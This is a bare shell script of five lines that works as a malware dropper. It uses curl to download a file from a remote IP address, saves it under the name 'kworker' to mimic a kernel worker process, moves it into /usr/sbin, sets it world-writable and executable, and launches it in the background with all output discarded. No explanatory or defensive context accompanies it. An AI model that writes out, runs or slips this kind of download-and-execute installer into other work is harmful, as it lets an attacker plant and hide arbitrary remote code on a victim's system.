#!/bin/sh
curl -o /tmp/kworker http://192.0.2.5/x
mv /tmp/kworker /usr/sbin/kworker
chmod 777 /usr/sbin/kworker
nohup kworker >/dev/null 2>&1 &
